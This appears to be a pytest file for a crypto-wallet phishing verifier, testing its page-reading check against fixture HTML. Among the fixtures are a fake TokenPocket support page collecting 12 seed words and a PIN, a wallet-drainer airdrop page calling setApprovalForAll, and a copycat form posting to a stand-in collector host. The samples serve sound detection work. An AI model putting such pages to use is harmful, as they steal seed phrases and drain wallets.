"""The deep page check with real loopback servers serving realistic pages.

Host names are mapped to 127.0.0.1 by an injected resolver (and 127.0.0.1/32 is the allowed
network, as VERIFIER_FETCH_ALLOWED_NETWORKS would allow it), so the pages are read over real
HTTP without any name lookup or internet.
"""

from __future__ import annotations

import json
from http.server import BaseHTTPRequestHandler

import pytest

from served import loopback_http
from verifier.cli.main import main
from verifier.deep.checker import DeepChecker
from verifier.deep.fetch import FetchLimits, SafeFetcher
from verifier.deep.page_html import summarise_html
from verifier.state.store import StateStore

FAKE_SUPPORT_ZH = """<!doctype html><html lang="zh"><head><meta charset="utf-8">
<title>TokenPocket 官方客服中心 - 钱包找回</title>
<meta name="description" content="TP钱包官方客服，24小时在线，帮您找回被盗资产">
</head><body>
<img src="/img/tokenpocket-logo.png" alt="TokenPocket">
<h1>TP钱包 资产找回</h1>
<div class="chat-widget">在线客服 · 人工客服</div>
<p>为了验证您的身份，请在下方输入您的12个助记词。</p>
<form action="/api/collect" method="post">
""" + "".join(f'<input type="text" name="w{i}" placeholder="第{i}个词">' for i in range(1, 13)) + """
<textarea name="phrase" placeholder="或粘贴您的助记词"></textarea>
<input type="password" name="pin">
<button>提交验证</button></form>
<p>遇到问题？<a href="https://t.me/tokenpocket_kefu">Telegram 客服</a></p>
<a href="/download/tokenpocket.apk">下载最新版 TokenPocket</a>
<footer><p>Disclaimer: this page is operated by the support team.</p></footer>
</body></html>"""

DRAINER = """<!doctype html><html><head><title>Mega Airdrop Season 3</title></head><body>
<h1>Claim your airdrop now</h1>
<button id="connect">Connect Wallet</button>
<p>Eligible wallets can claim 500 tokens. Only 2 hours left!</p>
<script>
async function go(){ const accounts = await ethereum.request({method: 'eth_requestAccounts'});
  await contract.methods.setApprovalForAll(drainer, true).send({from: accounts[0]}); }
</script></body></html>"""

BLOG = """<!doctype html><html><head><title>Wallet safety: five habits that protect you</title>
<meta name="description" content="A review of popular wallets, including TokenPocket"></head><body>
<h1>Five habits that protect your wallet</h1>
<h2>TokenPocket, MetaMask and others</h2>
<p>Wallets such as TokenPocket never ask for your seed phrase. Disclaimer: we are not affiliated.</p>
<p>Read more at <a href="https://tokenpocket.pro/">the official site</a> or <a href="https://getpocket.com/">Pocket</a>.</p>
<form action="/search"><input type="search" name="q"></form>
</body></html>"""

OFFICIAL = """<!doctype html><html><head><title>TokenPocket - Your Universal Digital Wallet</title></head><body>
<h1>TokenPocket</h1><a href="https://help.tokenpocket.pro/">Help</a>
<a href="/download/TokenPocket.apk">Android APK</a>
<p>Connect wallet to DApps. Claim rewards in our events. Never share your seed phrase.</p>
<form action="https://tokensecurity.tokenpocket.pro/check"><input type="text" name="address"></form>
</body></html>"""

COPYCAT = """<!doctype html><html><head><title>Wallet Verify</title></head><body>
<nav><a href="https://tokenpocket.pro/">Home</a><a href="https://help.tokenpocket.pro/">Help</a>
<a href="https://fans.tokenpocket.pro/">Forum</a></nav>
<form action="https://collector.example-drop.net/save" method="post">
<input type="text" name="address"><input type="text" name="code"></form>
</body></html>"""

PAGES = {"/fake": FAKE_SUPPORT_ZH, "/drainer": DRAINER, "/blog": BLOG, "/": OFFICIAL, "/copycat": COPYCAT}


class Pages(BaseHTTPRequestHandler):
    hits: list[str] = []

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:  # noqa: N802
        Pages.hits.append(self.path)
        body = PAGES.get(self.path.split("?", 1)[0])
        if body is None:
            self.send_response(404)
            self.end_headers()
            return
        data = body.encode("utf-8")
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture(scope="module")
def port():
    with loopback_http(Pages) as served_port:
        yield served_port


@pytest.fixture
def deep(core, port, tmp_path):
    fetcher = SafeFetcher(
        FetchLimits.with_allowed(["127.0.0.1/32"], ports=frozenset({port})),
        resolver=lambda host, p: ["127.0.0.1"],
    )
    moment = core.clock()
    return DeepChecker(core, fetcher, store_factory=lambda: StateStore(tmp_path / "state.sqlite3"), clock=lambda: moment)


def codes(result):
    return [r.code for r in result.reasons]


# (path, host, verdict after the page, page signs that must be found, signs that must not)
CASES = [
    ("/fake", "help-desk-24.top", "impersonation",
     {"page_asks_secret", "page_seed_grid", "page_claims_brand", "page_fake_support", "page_offers_download",
      "page_links_fake_support", "page_password_field"},
     {"page_wallet_drainer"}),
    ("/drainer", "mega-airdrop-s3.xyz", "impersonation", {"page_wallet_drainer"}, {"page_asks_secret", "page_claims_brand"}),
    ("/blog", "cryptonews-daily.com", "not_official", set(),
     {"page_claims_brand", "page_asks_secret", "page_wallet_drainer", "page_posts_elsewhere"}),
    ("/copycat", "wallet-verify-center.com", "impersonation", {"page_copies_official", "page_posts_elsewhere"}, set()),
    ("/", "tokenpocket.pro", "official", set(), {"page_claims_brand", "page_offers_download", "page_wallet_drainer"}),
]


@pytest.mark.parametrize(("path", "host", "verdict", "present", "absent"), CASES)
def test_pages_are_judged_by_what_they_show(deep, port, path, host, verdict, present, absent):
    before = deep.verifier.check(f"http://{host}:{port}{path}")
    result = deep.check(f"http://{host}:{port}{path}")
    found = set(result.details["page"]["signs"])
    assert result.verdict == verdict, (codes(result), result.details["page"])
    assert present <= found, found
    assert not (absent & found), found
    assert result.details["page"]["address"] == "127.0.0.1"
    assert result.details["page"]["read_at"].endswith("Z")
    if before.verdict == "official":
        assert result.verdict == "official" and result.risk == before.risk  # never worse
    else:
        assert result.risk >= before.risk  # never better


def test_answer_is_explained_in_both_languages(deep, port):
    result = deep.check(f"http://help-desk-24.top:{port}/fake")
    zh = result.to_dict("zh")
    messages = {r["code"]: r["message"] for r in zh["reasons"]}
    assert "助记词" in messages["page_asks_secret"]
    assert "12" in messages["page_seed_grid"]
    assert "t.me/tokenpocket_kefu" in result.to_dict()["reasons"][-1]["message"] or any(
        "t.me/tokenpocket_kefu" in r["message"] for r in result.to_dict()["reasons"]
    )


def test_readings_are_cached_by_url(deep, port):
    url = f"http://cached-page.top:{port}/drainer"
    Pages.hits.clear()
    first = deep.check(url)
    second = deep.check(url)
    assert Pages.hits == ["/drainer"]
    assert first.details["page"]["cached"] is False and second.details["page"]["cached"] is True
    assert second.verdict == first.verdict == "impersonation"


def test_a_page_that_cannot_be_read_leaves_the_verdict_and_says_why(core, tmp_path):
    fetcher = SafeFetcher(FetchLimits.with_allowed([]), resolver=lambda host, p: ["10.0.0.8"])
    checker = DeepChecker(core, fetcher, store_factory=lambda: StateStore(tmp_path / "s.sqlite3"))
    result = checker.check("https://tokenpocket-support.com/")
    assert result.verdict == "impersonation"  # from the name alone
    assert result.details["page"]["error"]["code"] == "fetch_blocked"


def test_only_links_and_domains_have_pages(deep):
    result = deep.check("service@tokenpocket.pro")
    assert result.verdict == "official" and result.details["page"]["error"]["code"] == "not_a_page"


def test_summary_of_fetched_html_has_the_bookmarklet_format():
    summary = summarise_html(FAKE_SUPPORT_ZH.encode(), "http://help-desk-24.top/fake")
    assert summary["v"] == 1
    assert summary["title"].startswith("TokenPocket 官方客服中心")
    assert "助记词" in summary["secret_terms"]
    assert summary["grid_inputs"] == 13 and summary["password_fields"] == 1 and summary["textareas"] == 1
    assert summary["form_hosts"] == ["help-desk-24.top"]
    assert "https://t.me/tokenpocket_kefu" in summary["contact_links"]
    assert summary["downloads"] == ["http://help-desk-24.top/download/tokenpocket.apk"]
    assert "claim" not in [t.casefold() for t in summary["drainer_terms"]]  # "Disclaimer" is not "claim"


def test_garbage_html_never_crashes():
    for body in (b"", b"\xff\xfe\x00<", b"<html><title>" * 5000, "<p>💥</p>".encode(), b"<form action='javascript:x'>"):
        summary = summarise_html(body, "http://x.example/")
        assert summary["v"] == 1


def test_cli_check_deep(settings_env, port, capsys, monkeypatch):
    import verifier.deep.fetch as fetch

    monkeypatch.setenv("VERIFIER_FETCH_ALLOWED_NETWORKS", "127.0.0.1/32")
    monkeypatch.setenv("VERIFIER_FETCH_PORTS", f"80,443,{port}")
    monkeypatch.setattr(fetch, "system_resolver", lambda host, p: ["127.0.0.1"])  # no DNS in tests
    assert main(["check", "--deep", "--json", f"http://help-desk-24.top:{port}/fake"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["verdict"] == "impersonation"
    assert "page_asks_secret" in [r["code"] for r in result["reasons"]]
    assert result["details"]["page"]["address"] == "127.0.0.1"


@pytest.fixture
def deep_app(settings_env, port, monkeypatch):
    import verifier.deep.fetch as fetch
    from verifier.config import Settings
    from verifier.web import create_app

    monkeypatch.setenv("VERIFIER_FETCH_ALLOWED_NETWORKS", "127.0.0.1/32")
    monkeypatch.setenv("VERIFIER_FETCH_PORTS", f"80,443,{port}")
    monkeypatch.setattr(fetch, "system_resolver", lambda host, p: ["127.0.0.1"])  # no DNS in tests
    return create_app({"SETTINGS": Settings.from_env()})


def test_api_deep_check(deep_app, port):
    body = deep_app.test_client().post(
        "/api/v1/check", json={"input": f"http://help-desk-24.top:{port}/fake", "deep": True, "lang": "zh"}
    ).get_json()
    assert body["verdict"] == "impersonation"
    assert {"page_asks_secret", "page_seed_grid", "page_fake_support"} <= set(body["details"]["page"]["signs"])
    assert body["details"]["page"]["address"] == "127.0.0.1"
    assert any("助记词" in r["message"] for r in body["reasons"])


def test_web_checker_reads_the_page_when_asked(deep_app, port):
    client = deep_app.test_client()
    url = f"http://help-desk-24.top:{port}/fake"
    plain = client.get("/check", query_string={"input": url, "lang": "en"}).get_data(as_text=True)
    deep = client.get("/check", query_string={"input": url, "deep": "1", "lang": "en"}).get_data(as_text=True)
    assert 'id="deep-page"' not in plain
    assert 'id="deep-page"' in deep and "from the address 127.0.0.1" in deep
    assert 'data-code="page_asks_secret"' in deep
    index = client.get("/?lang=zh").get_data(as_text=True)
    assert 'name="deep"' in index and "同时读取链接指向的网页" in index
